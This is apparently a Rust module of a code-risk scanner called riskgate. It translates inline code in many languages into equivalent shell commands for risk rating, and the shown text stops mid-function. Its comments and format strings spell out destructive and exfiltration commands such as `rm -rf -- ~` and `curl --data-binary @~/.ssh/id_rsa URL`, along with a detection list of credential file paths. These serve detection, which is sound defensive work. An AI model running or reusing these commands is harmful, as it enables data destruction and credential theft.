//! Code in any language, read by what its calls visibly do, without a grammar of the language:
//! the reader for inline code riskgate has no analyzer for (Julia, Elixir, Erlang, Clojure,
//! Scala, Swift, Haskell, OCaml, Octave, .NET, Crystal, Raku …) and a second reading of the
//! languages it reads in part (JVM, Lua, R, AppleScript, Emacs Lisp, awk).
//!
//! The code is split into language-neutral tokens (strings, command literals, dotted names,
//! numbers, punctuation) and its expressions are folded: literals joined by a concatenation
//! operator, home-directory constructors (`homedir()`, `System.getProperty("user.home")`,
//! `NSHomeDirectory()`, `SpecialFolder.UserProfile`), path joiners, decoders (base64, char
//! codes), listings (`list.files(P)` is `P/*`), environment reads, file reads, and any other
//! call of one foldable argument (a conversion: `String(x)`, `to_charlist`). Calls are
//! recognized in the three shapes languages write them: `name(args)`, `(name args)` and
//! `name "arg"`, plus methods on a receiver (`File(P).deleteRecursively()`, `"cmd".execute()`).
//!
//! Each call is then classified by the last segment of its name (`babashka.fs/delete-tree`,
//! `:os.cmd`, `System.IO.Directory.Delete`) against sinks every language spells alike — run a
//! command, delete a path, write a file, send over the network, download, run SQL — and
//! becomes the shell command with the same effect (`rm -rf -- ~`, `: >> /etc/sudoers`,
//! `curl --data-binary @~/.ssh/id_rsa URL`, `psql -h HOST -c 'DROP …'`), which the shell
//! engine rates as it rates the command. Only targets that look like paths are deleted or
//! written (`list.remove("x")` is not a file), and what cannot be folded is not invented.
//!
//! Linear in the code's length: tokens, folded text and commands are bounded.

use super::langs::{join, quote};

/// Longest code read.
const MAX_CODE: usize = 64 * 1024;
/// Most tokens read.
const MAX_TOKENS: usize = 20_000;
/// Most commands returned.
const MAX_COMMANDS: usize = 64;
/// Longest folded string.
const MAX_TEXT: usize = 16 * 1024;
/// Most variables remembered.
const MAX_VARS: usize = 256;
/// Deepest expression nesting folded.
const MAX_DEPTH: usize = 32;

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Str(String),
    /// A command literal: `` `…` ``.
    Cmd(String),
    Name(String),
    Num(i64),
    Punct(&'static str),
    Newline,
}

/// A folded value.
#[derive(Debug, Clone, PartialEq)]
enum Val {
    Str(String),
    Num(i64),
    List(Vec<Val>),
    /// A command (a command literal or a command object).
    Cmd(String),
    /// What a command prints.
    Output(String),
    /// The value of an environment variable.
    Env(String),
    /// The whole environment.
    AllEnv,
    /// The content of a file.
    Read(String),
    Unknown,
}

const PUNCTS: &[&str] = &[
    "|>", "#|", "..", "<>", "<-", ":=", "->", "=>", "!!", "++", "::", "(", ")", "[", "]", "{", "}",
    ",", ";", "=", "+", "*", "~", ".", "!", ":", "<", ">", "|", "&", "-", "/", "%", "?", "@", "^",
    "$",
];

/// The tokens of `code`, and for each whether a blank stands before it (`(f (g x))` is a
/// Lisp form, `(f(x))` a call).
fn tokens(code: &str) -> (Vec<Tok>, Vec<bool>) {
    let code = code.get(..MAX_CODE).unwrap_or(code);
    let b = code.as_bytes();
    let mut out = Vec::new();
    let mut gaps = Vec::new();
    let mut i = 0;
    while i < b.len() && out.len() < MAX_TOKENS {
        let c = b[i];
        while gaps.len() < out.len() {
            gaps.push(false);
        }
        if gaps.len() == out.len() && i > 0 && matches!(b[i - 1], b' ' | b'\t' | b'\n') {
            gaps.push(true);
        }
        match c {
            b'\n' => {
                out.push(Tok::Newline);
                i += 1;
            }
            b' ' | b'\t' | b'\r' => i += 1,
            // a comment to the end of the line: `# …`, `// …`, `-- …`, `;; …`
            b'#' if matches!(b.get(i + 1), Some(b' ' | b'!' | b'#')) || i == 0 => {
                i = line_end(b, i)
            }
            b'/' if b.get(i + 1) == Some(&b'/') => i = line_end(b, i),
            b'-' if b.get(i + 1) == Some(&b'-') && b.get(i + 2) == Some(&b' ') => {
                i = line_end(b, i)
            }
            b';' if b.get(i + 1) == Some(&b';') => i = line_end(b, i),
            b'"' | b'\'' | b'`' => {
                let (text, end) = string_at(code, i);
                match (c, text) {
                    (b'`', Some(t)) => out.push(Tok::Cmd(t)),
                    (_, Some(t)) => out.push(Tok::Str(t)),
                    // an apostrophe that opens no string (a Lisp quote, a character)
                    (_, None) => {}
                }
                i = end;
            }
            b'0'..=b'9' => {
                let start = i;
                while i < b.len() && b[i].is_ascii_digit() {
                    i += 1;
                }
                let n = code[start..i].parse().unwrap_or(i64::MAX);
                out.push(Tok::Num(n));
            }
            // AppleScript's command in three words
            b'd' if code[i..].starts_with("do shell script") => {
                out.push(Tok::Name("doShellScript".into()));
                i += "do shell script".len();
            }
            c if c.is_ascii_alphabetic() || c == b'_' || (c == b':' && next_alpha(b, i + 1)) => {
                let start = i;
                i += 1;
                loop {
                    while i < b.len() && (b[i].is_ascii_alphanumeric() || matches!(b[i], b'_')) {
                        i += 1;
                    }
                    while i < b.len() && matches!(b[i], b'!' | b'?') {
                        i += 1;
                    }
                    // separators inside a dotted name: `.`, `::`, `:`, `/` (Clojure), `-`
                    // (Lisp): only between letters
                    let sep = match b.get(i) {
                        Some(b':') if b.get(i + 1) == Some(&b':') => 2,
                        Some(b'.' | b':' | b'/' | b'-') => 1,
                        _ => 0,
                    };
                    if sep > 0 && next_alpha(b, i + sep) && !matches!(b.get(i - 1), Some(b'!')) {
                        i += sep;
                        continue;
                    }
                    break;
                }
                out.push(Tok::Name(code[start..i].to_string()));
            }
            _ => {
                let rest = &code[i..];
                if let Some(p) = PUNCTS.iter().find(|p| rest.starts_with(**p)) {
                    out.push(Tok::Punct(p));
                    i += p.len();
                } else {
                    i += rest.chars().next().map_or(1, char::len_utf8);
                }
            }
        }
    }
    gaps.resize(out.len(), false);
    (out, gaps)
}

fn next_alpha(b: &[u8], i: usize) -> bool {
    b.get(i)
        .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
}

fn line_end(b: &[u8], mut i: usize) -> usize {
    while i < b.len() && b[i] != b'\n' {
        i += 1;
    }
    i
}

/// The string opened at `i` (its unescaped text, `None` for a quote that does not close on
/// its line when it is an apostrophe) and the index past it.
fn string_at(code: &str, i: usize) -> (Option<String>, usize) {
    let b = code.as_bytes();
    let q = b[i];
    let mut text = String::new();
    let mut j = i + 1;
    while j < b.len() {
        let c = b[j];
        if c == b'\\' && q != b'`' {
            let (ch, n) = match b.get(j + 1) {
                Some(b'n') => ('\n', 2),
                Some(b't') => ('\t', 2),
                Some(&e) if e.is_ascii() => (char::from(e), 2),
                _ => ('\\', 1),
            };
            text.push(ch);
            j += n;
            continue;
        }
        if c == q {
            return (Some(text), j + 1);
        }
        if c == b'\n' && q == b'\'' {
            return (None, i + 1);
        }
        let ch = code[j..].chars().next().unwrap_or('\u{fffd}');
        if text.len() < MAX_TEXT {
            text.push(ch);
        }
        j += ch.len_utf8();
    }
    if q == b'\'' {
        return (None, i + 1);
    }
    (Some(text), b.len())
}

/// The shell commands with the effects of `code`'s calls.
pub(crate) fn commands(code: &str) -> Vec<String> {
    let (toks, gaps) = tokens(code);
    let mut r = Reader {
        toks: &toks,
        gaps: &gaps,
        vars: Vec::new(),
        out: Vec::new(),
        sends: false,
        secrets: Vec::new(),
        urls: Vec::new(),
        host: None,
    };
    r.host = r.db_host();
    let mut i = 0;
    while i < toks.len() && r.out.len() < MAX_COMMANDS {
        // `name = value` (also `<-`, `:=`, `let`/`val`/`var`/`local`/`def` before it)
        if let Some(Tok::Name(n)) = toks.get(i)
            && matches!(toks.get(i + 1), Some(Tok::Punct("=" | "<-" | ":=")))
            && !matches!(toks.get(i + 2), Some(Tok::Punct("=")))
        {
            let (v, next) = r.expr(i + 2, 0);
            if r.vars.len() < MAX_VARS {
                r.vars.push((n.clone(), v));
            }
            i = next.max(i + 1);
            continue;
        }
        let (_, next) = r.expr(i, 0);
        i = next.max(i + 1);
    }
    r.finish_sends();
    let mut seen = std::collections::HashSet::new();
    r.out.retain(|c| seen.insert(c.clone()));
    r.out
}

struct Reader<'a> {
    toks: &'a [Tok],
    /// Whether a blank stands before each token.
    gaps: &'a [bool],
    vars: Vec<(String, Val)>,
    out: Vec<String>,
    /// A call sends data over the network.
    sends: bool,
    /// What the code reads that is worth sending: `@PATH` or `$NAME` or the whole environment.
    secrets: Vec<Val>,
    /// URLs (and `/inet/tcp/HOST/PORT` endpoints) the code names.
    urls: Vec<String>,
    /// The database host named by a `host` argument.
    host: Option<String>,
}

impl Reader<'_> {
    fn tok(&self, i: usize) -> Option<&Tok> {
        self.toks.get(i)
    }

    fn punct(&self, i: usize, p: &str) -> bool {
        matches!(self.tok(i), Some(Tok::Punct(q)) if *q == p)
    }

    /// `(` right after the token before it: a call's argument list.
    fn call_paren(&self, i: usize) -> bool {
        self.punct(i, "(") && !self.gaps.get(i).copied().unwrap_or(false)
    }

    /// One expression from `i`: a primary, its postfix calls, and concatenations.
    fn expr(&mut self, i: usize, depth: usize) -> (Val, usize) {
        if depth > MAX_DEPTH {
            return (Val::Unknown, i + 1);
        }
        let (mut v, mut i) = self.postfix(i, depth);
        loop {
            match self.tok(i) {
                // concatenation: `+`, `..`, `<>`, `~`, `*`, `++`, `.` (PHP, Perl)
                Some(Tok::Punct("+" | ".." | "<>" | "~" | "*" | "++" | "."))
                    if matches!(v, Val::Str(_) | Val::Env(_)) =>
                {
                    let (w, next) = self.postfix(i + 1, depth + 1);
                    v = concat(v, w);
                    i = next;
                }
                // Scala's `"a" #| "b"`: a pipeline (run by a `!` after it)
                Some(Tok::Punct("#|")) => {
                    let (w, next) = self.primary(i + 1, depth + 1);
                    v = match (command_text(&v), command_text(&w)) {
                        (Some(a), Some(b)) => Val::Cmd(format!("{a} | {b}")),
                        _ => Val::Unknown,
                    };
                    i = next;
                }
                // Elixir's pipe: `x |> f()` is `f(x)`
                Some(Tok::Punct("|>")) => {
                    let (name, next) = match self.tok(i + 1) {
                        Some(Tok::Name(n)) => (n.clone(), i + 2),
                        _ => return (v, i + 1),
                    };
                    let (mut args, next) = if self.punct(next, "(") {
                        self.args(next, depth + 1)
                    } else {
                        (Vec::new(), next)
                    };
                    args.insert(0, v);
                    v = self.call(&name, args);
                    i = next;
                }
                Some(Tok::Punct("!" | "!!")) if matches!(v, Val::Cmd(_)) => {
                    self.run(&v);
                    return (Val::Output(command_text(&v).unwrap_or_default()), i + 1);
                }
                _ => return (v, i),
            }
        }
    }

    /// A primary and the method calls on it.
    fn postfix(&mut self, i: usize, depth: usize) -> (Val, usize) {
        let (mut v, mut i) = self.primary(i, depth);
        if depth > MAX_DEPTH {
            return (v, i);
        }
        loop {
            // `.name(args)`, `.name`, `->name(args)` (PHP), `.!` / `.!!` / ` !` (Scala)
            let arrow = self.punct(i, ".") || self.punct(i, "->");
            if arrow && let Some(Tok::Name(m)) = self.tok(i + 1) {
                let m = m.clone();
                let (mut args, next) = if self.punct(i + 2, "(") {
                    self.args(i + 2, depth + 1)
                } else {
                    (Vec::new(), i + 2)
                };
                // `File(P).text = "…"` (Groovy), `File(P) << "…"`: a write
                if (m == "text" || m == "bytes") && self.punct(next, "=") {
                    self.write(&v, false);
                    return (Val::Unknown, next + 1);
                }
                args.insert(0, v);
                v = self.method(&m, args);
                i = next;
                continue;
            }
            if (arrow && matches!(self.tok(i + 1), Some(Tok::Punct("!" | "!!"))))
                || (matches!(self.tok(i), Some(Tok::Punct("!" | "!!")))
                    && matches!(v, Val::Str(_) | Val::Cmd(_)))
            {
                self.run(&v);
                let next = if arrow { i + 2 } else { i + 1 };
                return (Val::Output(command_text(&v).unwrap_or_default()), next);
            }
            return (v, i);
        }
    }

    fn primary(&mut self, i: usize, depth: usize) -> (Val, usize) {
        let Some(t) = self.tok(i).cloned() else {
            return (Val::Unknown, i + 1);
        };
        match t {
            Tok::Str(s) => {
                self.note_string(&s);
                (Val::Str(s), i + 1)
            }
            Tok::Cmd(c) => (Val::Cmd(c), i + 1),
            Tok::Num(n) => (Val::Num(n), i + 1),
            Tok::Punct("(") => {
                // a Lisp form `(name args…)`
                if let Some(Tok::Name(n)) = self.tok(i + 1)
                    && !self.call_paren(i + 2)
                    && !self.punct(i + 2, ".")
                    && !matches!(self.tok(i + 2), Some(Tok::Punct("=" | "+" | ",")))
                {
                    let n = n.clone();
                    let (args, next) = self.until(i + 2, &[")"], depth + 1);
                    return (self.call(&n, args), next + 1);
                }
                let (v, next) = self.expr(i + 1, depth + 1);
                let (_, next) = self.until(next, &[")"], depth + 1);
                (v, next + 1)
            }
            Tok::Punct("[" | "{") => {
                let close = if t == Tok::Punct("[") { "]" } else { "}" };
                let (items, next) = self.list(i + 1, close, depth + 1);
                (Val::List(items), next + 1)
            }
            Tok::Name(n) => {
                let name = n.clone();
                if matches!(
                    name.as_str(),
                    "new" | "await" | "try" | "try!" | "return" | "do"
                ) || name.ends_with(".default")
                {
                    return self.postfix(i + 1, depth + 1);
                }
                // `name(args)`, Julia's broadcast `name.(args)`
                if self.call_paren(i + 1) || (self.punct(i + 1, "(") && known(&name).is_some()) {
                    let (args, next) = self.args(i + 1, depth + 1);
                    // a variable holding a function's name (`$f = "sys"."tem"; $f("…")`)
                    let callee = match self.vars.iter().rev().find(|(k, _)| *k == name) {
                        Some((_, Val::Str(f))) if known(f).is_some() => f.clone(),
                        _ => name,
                    };
                    return (self.call(&callee, args), next);
                }
                if self.punct(i + 1, ".") && self.punct(i + 2, "(") {
                    let (args, next) = self.args(i + 2, depth + 1);
                    return (self.call(&name, args), next);
                }
                // `name "arg" …` (Haskell, OCaml, Raku, AppleScript): a known sink or folder
                if (matches!(self.tok(i + 1), Some(Tok::Str(_) | Tok::Cmd(_)))
                    || (matches!(self.tok(i + 1), Some(Tok::Punct("("))) && known(&name).is_some()))
                    && (known(&name).is_some() || name.contains(['.', ':', '/']))
                {
                    {
                        let (args, next) = self.until(i + 1, &[";", ")", "]", "}"], depth + 1);
                        return (self.call(&name, args), next);
                    }
                }
                if let Some((_, v)) = self.vars.iter().rev().find(|(k, _)| *k == name) {
                    return (v.clone(), i + 1);
                }
                if is_home(&name) {
                    return (Val::Str("~".into()), i + 1);
                }
                (Val::Unknown, i + 1)
            }
            _ => (Val::Unknown, i + 1),
        }
    }

    /// `(a, b, label: c)` from the `(` at `i`: the values and the index past `)`.
    fn args(&mut self, i: usize, depth: usize) -> (Vec<Val>, usize) {
        let (items, next) = self.list(i + 1, ")", depth);
        (items, next + 1)
    }

    /// Comma-separated expressions up to `close` (named arguments' labels dropped).
    fn list(&mut self, mut i: usize, close: &str, depth: usize) -> (Vec<Val>, usize) {
        let mut items = Vec::new();
        while i < self.toks.len() && !self.punct(i, close) && depth <= MAX_DEPTH {
            if self.punct(i, ",") || self.tok(i) == Some(&Tok::Newline) {
                i += 1;
                continue;
            }
            // `label: v`, `label = v`, `label => v`
            if matches!(self.tok(i), Some(Tok::Name(_)))
                && matches!(self.tok(i + 1), Some(Tok::Punct(":" | "=" | "=>")))
            {
                i += 2;
            }
            let (v, next) = self.expr(i, depth + 1);
            // more follows before the separator (awk's `"mv " $0`, juxtaposed): the value is
            // not known, though the calls in it still count
            let whole = self.punct(next, ",")
                || self.punct(next, ";")
                || self.punct(next, close)
                || self.tok(next) == Some(&Tok::Newline);
            items.push(if whole { v } else { Val::Unknown });
            let (_, next) = self.until(next, &[",", close], depth + 1);
            i = if self.punct(next, ",") {
                next + 1
            } else {
                next
            };
        }
        (items, i)
    }

    /// Space-separated expressions up to one of `stops` or the end of the line (Lisp forms,
    /// calls without parentheses); nested brackets are skipped whole.
    fn until(&mut self, mut i: usize, stops: &[&str], depth: usize) -> (Vec<Val>, usize) {
        let mut items = Vec::new();
        while let Some(t) = self.tok(i) {
            match t {
                Tok::Punct(p) if stops.contains(p) => break,
                Tok::Newline if !stops.contains(&")") => break,
                Tok::Newline | Tok::Punct(",") => i += 1,
                Tok::Punct(")" | "]" | "}") => break,
                _ if depth > MAX_DEPTH => i += 1,
                _ => {
                    let (v, next) = self.expr(i, depth + 1);
                    items.push(v);
                    i = next.max(i + 1);
                }
            }
        }
        (items, i)
    }

    /// A method `m` called on `args[0]`.
    fn method(&mut self, m: &str, args: Vec<Val>) -> Val {
        let lower = m.to_ascii_lowercase();
        match lower.as_str() {
            // Groovy `"cmd".execute()`, `["sh","-c","cmd"].execute()`
            "output" | "outputsync" | "status" | "spawnsync" | "wait"
                if matches!(args.first(), Some(Val::Cmd(_))) =>
            {
                if let Some(v) = args.first() {
                    self.run(v);
                }
                Val::Unknown
            }
            "execute" | "run" | "spawn" => {
                if let Some(v) = args.first() {
                    self.run(v);
                }
                Val::Unknown
            }
            "decodebase64" | "decode64" | "b64decode" | "frombase64" => {
                args.first().map_or(Val::Unknown, decode_base64)
            }
            // an ORM's `table("users")->truncate()`
            "truncate" => {
                if let Some(Val::Str(t)) = args.first()
                    && !t.is_empty()
                    && t.chars()
                        .all(|c| c.is_ascii_alphanumeric() || "_.".contains(c))
                {
                    self.sql(&format!("TRUNCATE TABLE {t}"));
                }
                Val::Unknown
            }
            "reverse" => match args.first() {
                Some(Val::Str(s)) => Val::Str(s.chars().rev().collect()),
                _ => Val::Unknown,
            },
            _ => self.call(m, args),
        }
    }

    /// A call of `name` with folded `args`: its effect recorded, its value returned.
    fn call(&mut self, name: &str, args: Vec<Val>) -> Val {
        let last = last_segment(name);
        if is_home(name) {
            return Val::Str("~".into());
        }
        // a command object built, not run (`Cmd([…])` in Julia, `new Deno.Command(…)`,
        // `exec.Command(…)`): run by a method called on it
        if matches!(last, "Cmd" | "Command") {
            let v = if args.len() == 1 {
                args.into_iter().next().unwrap_or(Val::Unknown)
            } else {
                Val::List(args)
            };
            return command_text(&v).map_or(Val::Unknown, Val::Cmd);
        }
        match known(name) {
            Some(Kind::Run) => {
                // a command and its arguments, or one command line
                if let Some(Val::Output(inner)) = args.first() {
                    self.out.push(format!("{inner} | sh"));
                    return Val::Unknown;
                }
                let v = if last.eq_ignore_ascii_case("start") && args.len() == 2 {
                    // .NET `Process.Start(FILE, ARGUMENTS)`: one argument string
                    match (&args[0], &args[1]) {
                        (Val::Str(f), Val::Str(a)) => Val::Cmd(format!("{} {a}", quote(f))),
                        _ => Val::List(args),
                    }
                } else if args.len() == 1 {
                    args.into_iter().next().unwrap_or(Val::Unknown)
                } else {
                    Val::List(args)
                };
                let text = command_text(&v);
                self.run(&v);
                text.map_or(Val::Unknown, Val::Output)
            }
            Some(Kind::Delete) => {
                let recursive = [
                    "dir",
                    "tree",
                    "recursive",
                    "rf",
                    "_r",
                    "all",
                    "item",
                    "files",
                ]
                .iter()
                .any(|k| name.to_ascii_lowercase().contains(k))
                    || args.iter().skip(1).any(|a| matches!(a, Val::Unknown));
                match args.first() {
                    Some(Val::Str(p)) if p.contains("://") => {
                        self.out.push(format!("curl -X DELETE {}", quote(p)));
                    }
                    Some(Val::Str(p)) if path_like(p) => {
                        let flag = if recursive || p.ends_with("/*") {
                            "-rf"
                        } else {
                            "-f"
                        };
                        self.out.push(format!("rm {flag} -- {}", path_word(p)));
                    }
                    _ => {}
                }
                Val::Unknown
            }
            Some(Kind::Write) => {
                // `open(P, "a")`: a write only with a write or append mode
                let opener = matches!(last, "open" | "fopen" | "file");
                let mode = args.get(1).and_then(|m| match m {
                    Val::Str(s) => Some(s.as_str()),
                    _ => None,
                });
                if let Some(p) = args.first() {
                    match mode {
                        Some(m) if m.contains('a') => self.write(p, true),
                        Some(m) if m.contains('w') => self.write(p, false),
                        _ if opener => {
                            if let Val::Str(s) = p
                                && path_like(s)
                            {
                                self.secret(Val::Read(s.clone()));
                                return Val::Read(s.clone());
                            }
                        }
                        _ => self.write(p, false),
                    }
                }
                Val::Unknown
            }
            Some(Kind::Read) => match args.into_iter().next() {
                Some(Val::Str(p)) if path_like(&p) => {
                    self.secret(Val::Read(p.clone()));
                    Val::Read(p)
                }
                _ => Val::Unknown,
            },
            Some(Kind::Env) => match args.first() {
                None => {
                    self.secret(Val::AllEnv);
                    Val::AllEnv
                }
                Some(Val::Str(n)) if matches!(n.as_str(), "HOME" | "user.home" | "USERPROFILE") => {
                    Val::Str("~".into())
                }
                Some(Val::Str(n)) => {
                    self.secret(Val::Env(n.clone()));
                    Val::Env(n.clone())
                }
                _ => Val::Unknown,
            },
            Some(Kind::Send) => {
                self.sends = true;
                Val::Unknown
            }
            Some(Kind::Download) => {
                if let (Some(Val::Str(url)), Some(Val::Str(dest))) = (args.first(), args.get(1))
                    && url.contains("://")
                {
                    self.out
                        .push(format!("curl -fsSL {} -o {}", quote(url), path_word(dest)));
                }
                Val::Unknown
            }
            Some(Kind::Sql) => {
                for a in &args {
                    if let Val::Str(s) = a
                        && looks_like_sql(s)
                    {
                        self.sql(s);
                    }
                }
                Val::Unknown
            }
            Some(Kind::Join) => {
                let mut parts = Vec::new();
                for a in &args {
                    match a {
                        Val::Str(s) => parts.push(s.clone()),
                        _ => return Val::Unknown,
                    }
                }
                Val::Str(parts.join("/").replace("//", "/"))
            }
            Some(Kind::Listing) => match args.first() {
                Some(Val::Str(p)) => Val::Str(format!("{}/*", p.trim_end_matches('/'))),
                _ => Val::Unknown,
            },
            Some(Kind::Decode) => args.first().map_or(Val::Unknown, decode_base64),
            Some(Kind::Chars) => {
                let codes: Vec<i64> = flatten(&args)
                    .iter()
                    .filter_map(|a| match a {
                        Val::Num(n) => Some(*n),
                        _ => None,
                    })
                    .collect();
                let s: Option<String> = codes
                    .iter()
                    .map(|c| u32::try_from(*c).ok().and_then(char::from_u32))
                    .collect();
                s.filter(|s| !s.is_empty()).map_or(Val::Unknown, Val::Str)
            }
            Some(Kind::Concat) => {
                let sep = if last.eq_ignore_ascii_case("paste") {
                    " "
                } else {
                    ""
                };
                let parts: Option<Vec<String>> = flatten(&args)
                    .iter()
                    .filter(|a| !matches!(a, Val::Unknown))
                    .map(|a| match a {
                        Val::Str(s) => Some(s.clone()),
                        _ => None,
                    })
                    .collect();
                parts.map_or(Val::Unknown, |p| Val::Str(p.join(sep)))
            }
            // a conversion of one value (`String(x)`, `to_charlist(x)`, `split(x)`)
            None if args.len() == 1 => args.into_iter().next().unwrap_or(Val::Unknown),
            None => Val::Unknown,
        }
    }

    fn secret(&mut self, v: Val) {
        if self.secrets.len() < 64 && !self.secrets.contains(&v) {
            self.secrets.push(v);
        }
    }

    /// `v` run as a command.
    fn run(&mut self, v: &Val) {
        if let Val::Output(inner) = v {
            self.out.push(format!("{inner} | sh"));
            return;
        }
        if let Some(text) = command_text(v) {
            if looks_like_sql(&text) {
                self.sql(&text);
            } else if !text.trim().is_empty() {
                self.out.push(text);
            }
        }
    }

    fn write(&mut self, target: &Val, append: bool) {
        if let Val::Str(p) = target
            && path_like(p)
        {
            let op = if append { ">>" } else { ">" };
            self.out.push(format!(": {op} {}", path_word(p)));
        }
    }

    fn sql(&mut self, text: &str) {
        let host = self
            .host
            .as_deref()
            .map(|h| format!(" -h {}", quote(h)))
            .unwrap_or_default();
        self.out.push(format!("psql{host} -c {}", quote(text)));
    }

    /// A string literal: URLs and `/inet/tcp/HOST/PORT` endpoints are where data may go.
    fn note_string(&mut self, s: &str) {
        if self.urls.len() < 8
            && (s.starts_with("http://") || s.starts_with("https://") || s.starts_with("s3://"))
        {
            self.urls.push(s.to_string());
        }
        if let Some(rest) = s
            .strip_prefix("/inet/tcp/")
            .or_else(|| s.strip_prefix("/inet/udp/"))
        {
            // `/inet/tcp/LOCALPORT/HOST/PORT`
            let parts: Vec<&str> = rest.split('/').collect();
            if let [_, host, port] = parts.as_slice() {
                self.urls.push(format!("http://{host}:{port}"));
                self.sends = true;
            }
        }
        if self.sends_secret_path(s) {
            self.secret(Val::Read(s.to_string()));
        }
    }

    /// A literal path that names a secret (read by awk's `getline < P`, Tcl's `open`): kept
    /// for a send found anywhere in the code.
    fn sends_secret_path(&self, s: &str) -> bool {
        path_like(s)
            && [
                "/etc/shadow",
                "/.ssh/",
                "/.aws/",
                "/.kube/config",
                "/.netrc",
                "/.git-credentials",
                "/.docker/config.json",
                "/.pgpass",
                ".keychain",
            ]
            .iter()
            .any(|k| s.contains(k))
    }

    /// Secrets read and a send: the flow as a shell pipeline.
    fn finish_sends(&mut self) {
        if !self.sends {
            return;
        }
        // a send needs a destination the code names (`->fetch()` of a database row is no
        // request)
        let Some(url) = self.urls.first().cloned() else {
            return;
        };
        let secrets = std::mem::take(&mut self.secrets);
        for s in secrets.iter().take(8) {
            let cmd = match s {
                Val::Read(p) => format!("curl --data-binary @{} {}", path_word(p), quote(&url)),
                Val::Env(n) if n.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') => {
                    format!("printenv {n} | curl --data-binary @- {}", quote(&url))
                }
                Val::AllEnv => format!("env | curl --data-binary @- {}", quote(&url)),
                _ => continue,
            };
            self.out.push(cmd);
        }
    }

    /// The value given to a `host` argument (`host = "prod-db.internal"`, `host: "…"`).
    fn db_host(&self) -> Option<String> {
        self.toks.windows(3).find_map(|w| match w {
            [Tok::Name(k), Tok::Punct("=" | ":" | "=>"), Tok::Str(h)]
                if k.eq_ignore_ascii_case("host") || k.eq_ignore_ascii_case("hostname") =>
            {
                Some(h.clone())
            }
            _ => None,
        })
    }
}

/// What a call does, by the last segment of its name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Run,
    Delete,
    Write,
    Read,
    Env,
    Send,
    Download,
    Sql,
    Join,
    Listing,
    Decode,
    Chars,
    Concat,
}

fn last_segment(name: &str) -> &str {
    name.rsplit(['.', ':', '/'])
        .next()
        .unwrap_or(name)
        .trim_end_matches(['!', '?'])
}

fn known(name: &str) -> Option<Kind> {
    let last = last_segment(name).to_ascii_lowercase();
    let full = name.to_ascii_lowercase();
    // Racket's `delete-directory/files`
    if full.ends_with("delete-directory/files") {
        return Some(Kind::Delete);
    }
    Some(match last.as_str() {
        "system"
        | "shell"
        | "sh"
        | "exec"
        | "spawn"
        | "popen"
        | "cmd"
        | "command"
        | "run"
        | "callcommand"
        | "runcommand"
        | "spawncommand"
        | "readprocess"
        | "doshellscript"
        | "shell_exec"
        | "passthru"
        | "proc_open"
        | "execute"
        | "shell-command"
        | "call-process-shell-command"
        | "cmd_run"
        | "system2"
        | "spawn_command" => Kind::Run,
        "start" if full.contains("process") => Kind::Run,
        "delete"
        | "remove"
        | "unlink"
        | "rm"
        | "rmdir"
        | "rmtree"
        | "rm_rf"
        | "rm_r"
        | "del_dir_r"
        | "del_dir"
        | "delete_dir"
        | "deleterecursively"
        | "delete-tree"
        | "delete-directory"
        | "delete-file"
        | "delete-recursively"
        | "removeitem"
        | "removedirectoryrecursive"
        | "removedirectory"
        | "removefile"
        | "deletedirectory"
        | "deletefile"
        | "dir_delete"
        | "file_delete"
        | "deleteifexists"
        | "delete_file"
        | "remove_dir_all"
        | "remove_file"
        | "remove_dir"
        | "rm_f"
        | "delete-dir" => Kind::Delete,
        "write_file" | "writefile" | "write-file" | "spit" | "file_put_contents" | "writetext"
        | "write_text" | "writealltext" | "appendalltext" | "write_all" | "writestring"
        | "open" | "fopen" => Kind::Write,
        "write" if full.starts_with("file") => Kind::Write,
        "read" | "readfile" | "read_file" | "slurp" | "file_get_contents" | "readalltext"
        | "readlines" | "read_text" | "readtext" | "read-file" | "readstring" | "contents" => {
            Kind::Read
        }
        "getenv" | "get_env" | "getproperty" | "environ" => Kind::Env,
        "post" | "put" | "patch" | "request" | "fetch" | "urlopen" | "http_post" | "httppost"
        | "post_form" | "sendall" | "postform" | "upload" | "put_object" | "curl"
        | "send_request" => Kind::Send,
        "download" | "download_file" | "urlretrieve" | "downloadfile" => Kind::Download,
        "dbexecute" | "dbsendquery" | "dbgetquery" | "dbsendstatement" | "query" | "exec_query"
        | "executescript" | "statement" | "run_sql" | "sql" | "execute_sql" => Kind::Sql,
        "combine" | "of" | "get" if path_joiner(&full) => Kind::Join,
        "path" | "file" | "joinpath" | "join_path" | "file_path" => Kind::Join,
        "files" | "readdir" | "listdir" | "glob" | "ls" | "list_dir" | "listfiles" => Kind::Listing,
        "base64decode" | "decode64" | "b64decode" | "atob" | "decodebase64"
        | "frombase64string" | "base64_decode" | "decode_base64" => Kind::Decode,
        "char" | "chr" | "fromcharcode" | "inttoutf8" | "chars" => Kind::Chars,
        "paste0" | "paste" | "concat" | "str" | "string-append" | "strcat" => Kind::Concat,
        _ if full == "file.path" => Kind::Join,

        _ => return None,
    })
}

fn path_joiner(full: &str) -> bool {
    full.contains("path") || full.contains("file")
}

fn is_home(name: &str) -> bool {
    let l = name.to_ascii_lowercase();
    matches!(
        last_segment(&l),
        "homedir"
            | "home_dir"
            | "user_home"
            | "nshomedirectory"
            | "homedirectory"
            | "home-dir"
            | "userprofile"
            | "gethomedir"
            | "home"
    ) || l.contains("user.home")
}

fn flatten(args: &[Val]) -> Vec<Val> {
    let mut out = Vec::new();
    for a in args {
        match a {
            Val::List(items) => out.extend(flatten(items)),
            v => out.push(v.clone()),
        }
    }
    out
}

fn concat(a: Val, b: Val) -> Val {
    match (a, b) {
        (Val::Str(x), Val::Str(y)) if x.len() + y.len() <= MAX_TEXT => Val::Str(x + &y),
        (Val::Str(x), Val::Env(n)) | (Val::Env(n), Val::Str(x)) if n == "HOME" => {
            Val::Str(format!("~{x}"))
        }
        _ => Val::Unknown,
    }
}

fn decode_base64(v: &Val) -> Val {
    use base64::Engine as _;
    let Val::Str(s) = v else {
        return Val::Unknown;
    };
    base64::engine::general_purpose::STANDARD
        .decode(s.trim().as_bytes())
        .ok()
        .and_then(|b| String::from_utf8(b).ok())
        .map_or(Val::Unknown, Val::Str)
}

/// The command a value stands for: a command line, a command literal, or an argv list.
fn command_text(v: &Val) -> Option<String> {
    match v {
        Val::Str(s) | Val::Cmd(s) => Some(s.clone()),
        Val::List(items) => {
            let words: Option<Vec<String>> = flatten(items)
                .iter()
                .map(|w| match w {
                    Val::Str(s) => Some(s.clone()),
                    Val::Num(n) => Some(n.to_string()),
                    _ => None,
                })
                .collect();
            let words = words?;
